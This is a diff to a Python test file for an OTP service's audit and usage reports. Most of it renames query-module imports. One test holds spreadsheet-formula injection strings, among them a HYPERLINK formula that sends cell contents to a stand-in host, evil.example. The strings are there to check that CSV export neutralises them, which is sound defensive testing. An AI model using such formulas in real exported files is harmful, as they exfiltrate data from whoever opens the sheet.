@@ -14,9 +14,10 @@ from otp_service.audit.rows import RequestContext
 from otp_service.core import errors, totp
 from otp_service.core.transitions import to_datetime
 from otp_service.db.models import AuditLog, Device, Report
-from otp_service.reports import queries as report_queries
+from otp_service.reports import audit_queries, bursts, usage_queries
 from otp_service.reports.demo import generate
-from otp_service.reports.runner import NOTEBOOKS_DIR, render_pdf
+from otp_service.reports.pdf import render_pdf
+from otp_service.reports.runner import NOTEBOOKS_DIR
 from tests.helpers import code_at, wrong_code
 from tests.serving import run_cli
 
@@ -26,12 +27,12 @@ DEMO_END = datetime(2026, 3, 1, tzinfo=UTC)
 
 def totals(database):
     with database.connection_context():
-        return report_queries.audit_totals(START, END)
+        return audit_queries.audit_totals(START, END)
 
 
 def lifecycle(database):
     with database.connection_context():
-        return report_queries.lifecycle_totals(START, END)
+        return usage_queries.lifecycle_totals(START, END)
 
 
 # What the demo's lifecycle stories leave, each at least once, whatever the seed.
@@ -75,60 +76,60 @@ def test_report_queries_agree_with_the_rows(service, database):
     generate(service, devices=10, days=14, seed=5, end=DEMO_END)
     with database.connection_context():
         rows = list(AuditLog.select().where((AuditLog.timestamp >= START) & (AuditLog.timestamp < END)))
-        t = report_queries.audit_totals(START, END)
+        t = audit_queries.audit_totals(START, END)
         verifications = [r for r in rows if r.action == "OTP_VERIFICATION"]
         assert t["verifications"] == len(verifications)
         assert t["verifications_succeeded"] == sum(r.success for r in verifications)
         assert t["locks"] == sum(r.action == "DEVICE_LOCKED" for r in rows)
-        by_reason = report_queries.failures_by_reason(START, END)
+        by_reason = audit_queries.failures_by_reason(START, END)
         assert dict(zip(by_reason["reason"], by_reason["failures"], strict=True)) == {
             reason: sum(1 for r in verifications if r.reason == reason)
             for reason in {r.reason for r in verifications if not r.success}
         }
-        daily = report_queries.daily_activity(START, END)
+        daily = usage_queries.daily_activity(START, END)
         assert len(set(daily["day"])) == 28 and daily["succeeded"].sum() + daily["failed"].sum() == len(rows)
-        episodes = report_queries.brute_force_episodes(START, END)
+        episodes = bursts.brute_force_episodes(START, END)
         assert len(episodes) >= 1 and (episodes["failures"] >= 5).all()
         devices = len({r.device_id for r in rows if r.action == "DEVICE_REGISTERED" and r.success})
-        assert report_queries.usage_distribution()["devices"].sum() == devices
-        assert report_queries.parameter_mix()["devices"].sum() == devices
-        assert report_queries.drift_distribution()["devices"].sum() == devices
-        assert report_queries.device_states(END)["devices"].sum() == devices
+        assert usage_queries.usage_distribution()["devices"].sum() == devices
+        assert usage_queries.parameter_mix()["devices"].sum() == devices
+        assert usage_queries.drift_distribution()["devices"].sum() == devices
+        assert usage_queries.device_states(END)["devices"].sum() == devices
         cutoff = END - timedelta(days=3)
         stale = [
             d
             for d in Device.select()
             if d.is_active and d.created_at < cutoff and (d.last_used is None or d.last_used < cutoff)
         ]
-        assert report_queries.stale_device_count(END, 3) == len(stale) > 0
-        assert len(report_queries.stale_devices(END, 3, limit=1)) == 1  # the list is capped; the count is not
-        top = report_queries.top_failing("ip_address", START, END, 3)
+        assert usage_queries.stale_device_count(END, 3) == len(stale) > 0
+        assert len(usage_queries.stale_devices(END, 3, limit=1)) == 1  # the list is capped; the count is not
+        top = audit_queries.top_failing("ip_address", START, END, 3)
         assert top["ip_address"].iloc[0] == "203.0.113.99"  # the simulated attacker
-        by_client = report_queries.actions_by_client(START, END)
+        by_client = audit_queries.actions_by_client(START, END)
         assert by_client["audit rows"].sum() == len(rows)
         for client, action, count, ok in by_client.itertuples(index=False):
-            mine = [r for r in rows if r.action == action and (r.actor or report_queries.NO_CLIENT) == client]
+            mine = [r for r in rows if r.action == action and (r.actor or audit_queries.NO_CLIENT) == client]
             assert (count, ok) == (len(mine), sum(r.success for r in mine))
-        admin = report_queries.admin_actions(START, END)
-        administered = [r for r in rows if r.action in report_queries.ADMIN_ACTIONS]
+        admin = audit_queries.admin_actions(START, END)
+        administered = [r for r in rows if r.action in audit_queries.ADMIN_ACTIONS]
         assert {r.action for r in administered} == {"DEVICE_DEACTIVATED", "DRIFT_RESET"}  # what the demo's operator did
         assert list(admin["device_id"]) == [r.device_id for r in administered] and set(admin["client"]) <= {
             "ops-console"
         }
-        totals_now = report_queries.audit_totals(START, END)
+        totals_now = audit_queries.audit_totals(START, END)
         verified = [r for r in verifications if r.reason != "REPLAYED"]  # double submits are not attempts
         assert totals_now["success_rate_percent"] == round(100 * sum(r.success for r in verified) / len(verified), 2)
         assert totals_now["devices_locked"] == len({r.device_id for r in rows if r.action == "DEVICE_LOCKED"})
         assert totals_now["verifications_double_submit"] == sum(r.reason == "REPLAYED" for r in verifications)
-        per_day = report_queries.daily_verifications(START, END)
+        per_day = audit_queries.daily_verifications(START, END)
         assert len(per_day) == 28 and per_day.drop(columns="day").to_numpy().sum() == len(verifications)
-        refused = report_queries.refused_requests(START, END)
+        refused = audit_queries.refused_requests(START, END)
         scanner = refused[refused["client address"] == "192.0.2.66"]
         assert dict(zip(scanner["refused for"], scanner["requests"], strict=True)) == {
             "wrong or missing API key": sum(r.action == "AUTH_FAILED" for r in rows),
             "rate limit": sum(r.action == "RATE_LIMITED" for r in rows),
         }
-        assert report_queries.count_failing("device_id", START, END) == len(
+        assert audit_queries.count_failing("device_id", START, END) == len(
             {r.device_id for r in verifications if not r.success and r.device_id}
         )
         _lifecycle_agrees_with(rows)
@@ -146,7 +147,7 @@ def _lifecycle_agrees_with(rows: list[AuditLog]) -> None:
             for r in rows
         )
 
-    life = report_queries.lifecycle_totals(START, END)
+    life = usage_queries.lifecycle_totals(START, END)
     assert life["enrolments_pending"] == sum(
         r.action == "DEVICE_REGISTERED" and r.success and data(r).get("pending") is True for r in rows
     )
@@ -171,9 +172,9 @@ def _lifecycle_agrees_with(rows: list[AuditLog]) -> None:
     for confirmed in (r for r in rows if r.action == "DEVICE_CONFIRMED" and r.success):
         mine = [r for r in registrations if r.device_id == confirmed.device_id and r.id < confirmed.id]
         expected.append(whole_seconds(confirmed.timestamp) - whole_seconds(max(r.timestamp for r in mine)))
-    times = report_queries.confirmation_times(START, END)
+    times = usage_queries.confirmation_times(START, END)
     assert sorted(times["seconds"].repeat(times["enrolments"])) == sorted(expected)
-    offsets = report_queries.resync_offsets(START, END)
+    offsets = usage_queries.resync_offsets(START, END)
     found = [data(r)["offset"] for r in rows if r.action == "DEVICE_RESYNCED" and r.success]
     assert sorted(offsets["offset_steps"].repeat(offsets["resyncs"])) == sorted(found)
 
@@ -242,11 +243,11 @@ def test_lifecycle_report_counts_a_history_made_through_the_service(service, dat
 
     start, end = day, day + timedelta(days=1)
     with database.connection_context():
-        life = report_queries.lifecycle_totals(start, end)
-        times = report_queries.confirmation_times(start, end)
-        offsets = report_queries.resync_offsets(start, end)
-        states = report_queries.device_states(as_of)
-        before = report_queries.lifecycle_totals(start - timedelta(days=1), start)
+        life = usage_queries.lifecycle_totals(start, end)
+        times = usage_queries.confirmation_times(start, end)
+        offsets = usage_queries.resync_offsets(start, end)
+        states = usage_queries.device_states(as_of)
+        before = usage_queries.lifecycle_totals(start - timedelta(days=1), start)
     assert life == {
         "enrolments_pending": 6,  # A, B, C twice, F, E
         "enrolments_confirmed": 3,
@@ -267,7 +268,7 @@ def test_lifecycle_report_counts_a_history_made_through_the_service(service, dat
         "recovery_code_locks": 1,
     }
     assert list(times.itertuples(index=False, name=None)) == [(30, 1), (40, 1), (90, 1)]
-    assert report_queries.median_seconds(times) == 40.0
+    assert usage_queries.median_seconds(times) == 40.0
     assert list(offsets.itertuples(index=False, name=None)) == [(21, 30, 1)]
     assert dict(zip(states["state"], states["devices"], strict=True)) == {
         "active": 3,
@@ -276,7 +277,7 @@ def test_lifecycle_report_counts_a_history_made_through_the_service(service, dat
         "enrolment expired": 1,
     }
     assert before["enrolments_pending"] == 0 and before["confirmation_rate_percent"] is None
-    assert report_queries.median_seconds(times.iloc[0:0]) is None
+    assert usage_queries.median_seconds(times.iloc[0:0]) is None
 
 
 PASSWORD = "report-pass-0123456789"
@@ -465,7 +466,7 @@ def test_report_csvs_neutralise_spreadsheet_formulas(tmp_path):
 
     import pandas as pd
 
-    from otp_service.reports.queries import ReportOutput
+    from otp_service.reports.output import ReportOutput
 
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
     frame = pd.DataFrame({"user_id": [*hostile, "alice", None], "failures": [1, 2, 3, 4, 5, 6, 7, 8]})
@@ -515,7 +516,7 @@ def test_brute_force_episodes_slide_with_the_failures_not_the_clock(service, dat
         _fail(service, f"SPRAY-{n}", devices[f"SPRAY-{n}"], _at("10:00:00") + 20 * n, "192.0.2.10")
 
     with database.connection_context():
-        episodes = report_queries.brute_force_episodes(datetime(2026, 2, 19), datetime(2026, 2, 20))
+        episodes = bursts.brute_force_episodes(datetime(2026, 2, 19), datetime(2026, 2, 20))
     rows = [
         (e["start"], e["end"], e["failures"], e["devices"], e["client addresses"], e["lock followed"], e["seen per"])
         for e in episodes.to_dict("records")
@@ -554,5 +555,5 @@ def test_brute_force_episodes_slide_with_the_failures_not_the_clock(service, dat
     assert episodes["users"].iloc[0] == "victim@example.com"
     assert episodes["users"].iloc[3] == ", ".join(f"spray-{n}@example.com" for n in range(6))
     with database.connection_context():  # a period that cuts an attack counts the part inside it
-        cut = report_queries.brute_force_episodes(datetime(2026, 2, 19, 5, 20), datetime(2026, 2, 19, 5, 22))
+        cut = bursts.brute_force_episodes(datetime(2026, 2, 19, 5, 20), datetime(2026, 2, 19, 5, 22))
     assert list(cut["failures"]) == [10]
